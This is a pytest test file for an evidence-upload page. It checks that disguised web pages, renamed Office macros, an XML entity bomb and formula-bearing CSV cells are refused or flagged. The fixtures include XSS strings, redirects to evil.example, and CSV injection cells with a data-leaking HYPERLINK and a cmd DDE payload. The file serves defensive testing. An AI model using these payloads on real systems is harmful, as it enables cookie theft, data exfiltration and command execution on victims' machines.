"""Evidence in disguise, through the upload page (found by an attack review).

- a web page or SVG image in a .txt or .csv file, behind a comment, spaces, a byte order mark or
  ordinary text, or starting with a plain tag (``<a href>``, ``<img onerror>``);
- an Office file whose macros are stored under another name, declared only by its
  ``[Content_Types].xml`` or its relationships, or whose main part is macro-enabled;
- a CSV whose cells a spreadsheet would run as formulas: kept and served exactly as submitted.

Each refusal is checked as a person sees it (the message in the error summary and next to the
field) and by what is left behind (no stored file, no evidence row).
"""

from __future__ import annotations

import hashlib

import pytest
from sqlalchemy import select

from improvement_tracker.extensions import db
from improvement_tracker.models import Evidence
from improvement_tracker.services import filetypes
from improvement_tracker.services.storage import get_storage
from tests import factories, files
from tests.views.test_evidence import assert_refused, stored, upload

# --- web pages and SVG images in disguise ---------------------------------------------------

DISGUISED_PAGES = [
    pytest.param(b"<!-- minutes of the board --><html><body><script>alert(document.cookie)</script></body></html>",
                 id="html-behind-a-comment"),
    pytest.param(b'\n\n   <a href="javascript:alert(1)">Open the register</a>\n', id="plain-link"),
    pytest.param(b'<img src=x onerror="alert(document.cookie)">', id="img-onerror"),
    pytest.param(b'\xef\xbb\xbf\r\n<!-- logo -->\r\n<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
                 id="svg-after-bom-and-comment"),
    pytest.param(b"<META HTTP-EQUIV=refresh CONTENT=0;url=https://evil.example/>", id="meta-refresh-upper-case"),
    pytest.param(b"<div onmouseover=alert(1)>Hover for the minutes</div>", id="event-handler-on-any-tag"),
    pytest.param(b"Minutes of the RASSO board\n" + b"Agreed: the new policy.\n" * 200
                 + b'<iframe src="https://evil.example/"></iframe>\n', id="iframe-after-4-KiB-of-text"),
    pytest.param(b"Officer,Note\nPC Jones,<body onload=alert(1)>\n", id="markup-in-a-csv-cell"),
    pytest.param(b"Minutes of the board\n<script async>alert(1)</script>\n", id="script-after-a-line-of-text"),
]


@pytest.mark.parametrize("name", ["notes.txt", "register.csv"])
@pytest.mark.parametrize("content", DISGUISED_PAGES)
def test_a_web_page_in_disguise_is_refused_wherever_its_markup_starts(owner_request, action, uploads, content, name):
    page = upload(owner_request, action, [(content, name)])
    label = "a text file (TXT)" if name.endswith(".txt") else "a CSV file"
    assert_refused(page, uploads, f"“{name}” is not really {label}: its content is a web page or SVG image")


@pytest.mark.parametrize(("content", "name"), [
    pytest.param(b"Target: charge in < 90 days; a < b for every case.\nRisk <5%, ratio 3<4, x<y.\n", "targets.txt",
                 id="less-than"),
    pytest.param(b"Contact: PC Jones <pc.jones@example.police.uk>, see <https://www.gov.uk/>.\n", "contacts.txt",
                 id="addresses-in-angle-brackets"),
    pytest.param(b"Policy: <link to be added>. Owner: <head of department>. Course: <title of the course>.\n",
                 "draft.txt", id="placeholders-that-are-also-tag-names"),
    pytest.param(b"Measure,Target\nDays to charge,<90\nAttrition,<a third\nCases,<b or c>\n", "measures.csv",
                 id="csv-cells"),
])
def test_ordinary_text_that_mentions_a_less_than_sign_is_accepted(owner_request, action, uploads, content, name):
    """Guards the check against refusing text: not a tag unless a browser would read one."""
    upload(owner_request, action, [(content, name)], expected_status=302)
    assert db.session.scalar(select(Evidence.original_filename)) == name


def test_markup_past_the_first_8_kib_is_not_looked_for(owner_request, action, uploads):
    """Browsers that sniff look at the first few hundred bytes; the check looks at 8 KiB."""
    content = b"Officer,Course\n" + b"PC Jones,Suspect-focused investigation\n" * 250 + b"Note,<b>bold</b>\n"
    assert len(content) > filetypes.MARKUP_WINDOW + 512
    upload(owner_request, action, [(content, "long.csv")], expected_status=302)


# --- macros under another name ----------------------------------------------------------------

MACROS = "“policy.docx” contains macros, which are not allowed. Save it without macros and try again"


@pytest.mark.parametrize("content", [
    pytest.param(files.docx_with_a_renamed_macro_project("override"), id="content-type-override"),
    pytest.param(files.docx_with_a_renamed_macro_project("default"), id="content-type-default-for-its-extension"),
    pytest.param(files.docx_with_a_renamed_macro_project("relationship"), id="relationship-only"),
    pytest.param(files.declared_docx(main=files.DOCM_MAIN), id="macro-enabled-main-part"),
    pytest.param(files.declared_docx(main=files.DOCM_MAIN.upper()), id="macro-enabled-in-capitals"),
])
def test_macros_under_another_name_are_refused(owner_request, action, uploads, content):
    page = upload(owner_request, action, [(content, "policy.docx")])
    assert_refused(page, uploads, MACROS)


def test_a_word_document_that_declares_its_parts_is_accepted(owner_request, action, uploads):
    """Guards the check: real declarations (a hyperlink, an image, an embedded object) are not macros."""
    content = files.declared_docx(
        defaults={"png": "image/png", "bin": "application/vnd.openxmlformats-officedocument.oleObject"},
        document_links=(("http://schemas.openxmlformats.org/officeDocument/2006/relationships/image",
                         "media/image1.png"),),
        extra={"word/media/image1.png": files.png(), "word/embeddings/oleObject1.bin": files.OLE2 + b"\x00" * 504})
    upload(owner_request, action, [(content, "policy.docx")], expected_status=302)
    assert db.session.scalar(select(Evidence.file_type)) == "docx"


def test_declarations_with_a_document_type_are_refused_unexpanded(owner_request, action, uploads):
    """A DTD (the way to an entity bomb) is never allowed in an Office package: refused before it is read."""
    bomb = (b'<?xml version="1.0"?><!DOCTYPE Types [<!ENTITY a "aaaaaaaaaa">'
            + b"".join(b'<!ENTITY %s "%s">' % (b"e%d" % n, (b"&e%d;" % (n - 1) if n else b"&a;") * 10)
                       for n in range(8))
            + b']><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
              b'<Default Extension="xml" ContentType="&e7;"/></Types>')
    content = files._zip([("[Content_Types].xml", bomb), ("_rels/.rels", files.RELS),
                          ("word/document.xml", b"<document/>")])
    page = upload(owner_request, action, [(content, "policy.docx")])
    assert_refused(page, uploads, "“policy.docx” is not really a Word document (DOCX): its content is a damaged file")


def test_declarations_too_large_to_check_are_refused(owner_request, action, uploads):
    """What is read from the ZIP is capped: 16 MiB of relationships (a few kB once compressed)."""
    link = ("http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink",
            "https://www.college.police.uk/")
    each = len(files.relationships(link, link)) - len(files.relationships(link))
    count = filetypes.MAX_PACKAGE_XML_BYTES // each + 1000
    content = files.declared_docx(document_links=(link,) * count)
    assert len(content) < 2 * 1024 * 1024
    page = upload(owner_request, action, [(content, "policy.docx")])
    assert_refused(page, uploads,
                   "“policy.docx” is not really a Word document (DOCX): its content is an Office file too large "
                   "to check")


# --- cells that a spreadsheet would run as formulas -------------------------------------------

FORMULAS_CSV = (b"Officer,Course,Note\r\n"
                b"PC Jones,Suspect-focused investigation,-3\r\n"
                b'DS Pryce,"=HYPERLINK(""https://evil.example/?leak=""&A1,""Open"")",ok\r\n'
                b"PC Evans,@SUM(1+1)*cmd|' /C calc'!A0,+1+1\r\n")


def test_a_csv_with_formulas_is_kept_as_submitted_and_its_formulas_are_found(owner_request, action, owner,
                                                                              uploads):
    """Evidence is what the force submitted: the bytes are kept and served unchanged (their SHA-256 is
    in the history), as an attachment that cannot be sniffed into a page. The cells a spreadsheet
    would run are found, for the warning the evidence and review pages show."""
    upload(owner_request, action, [(FORMULAS_CSV, "register.csv")], expected_status=302)
    item = db.session.scalar(select(Evidence))
    assert item.sha256 == hashlib.sha256(FORMULAS_CSV).hexdigest()

    response = owner_request.client.get(f"/evidence/{item.id}/download")
    assert response.status_code == 200
    assert response.data == FORMULAS_CSV
    assert response.headers["Content-Disposition"].startswith("attachment;")
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert response.headers["Content-Security-Policy"] == "default-src 'none'; sandbox; frame-ancestors 'none'"
    assert len(stored(uploads)) == 1

    with get_storage().open(item.storage_key) as handle:
        found = filetypes.formula_cells(handle)
    # =HYPERLINK, @SUM and +1+1; not the number -3.
    assert found == filetypes.FormulaCells(count=3, first="row 3, column B", complete=True)


def test_the_reviewer_is_warned_about_formulas_in_a_csv(client_request, action, owner, uploads):
    pm = factories.create_user("programme_manager", name="Priya Manager")
    with_formulas = factories.create_evidence(action, owner, FORMULAS_CSV, "register.csv")
    clean = factories.create_evidence(action, owner, files.csv(), "clean.csv")
    client_request.login(pm)
    warning = ("This CSV file has 3 cells that a spreadsheet would run as formulas (the first at row 3, column B). "
               "Open it in a text editor, or in Excel choose Data > From Text/CSV and set every column to Text, "
               "rather than opening it directly. It is kept exactly as it was uploaded.")
    for url in (f"/evidence/{with_formulas.id}", f"/evidence/{with_formulas.id}/review"):
        page = client_request.get(url)
        assert " ".join(page.select_one(".govuk-warning-text__text").get_text(" ", strip=True).split()) == \
            "Warning " + warning
    for url in (f"/evidence/{clean.id}", f"/evidence/{clean.id}/review"):
        assert client_request.get(url).select_one(".govuk-warning-text") is None
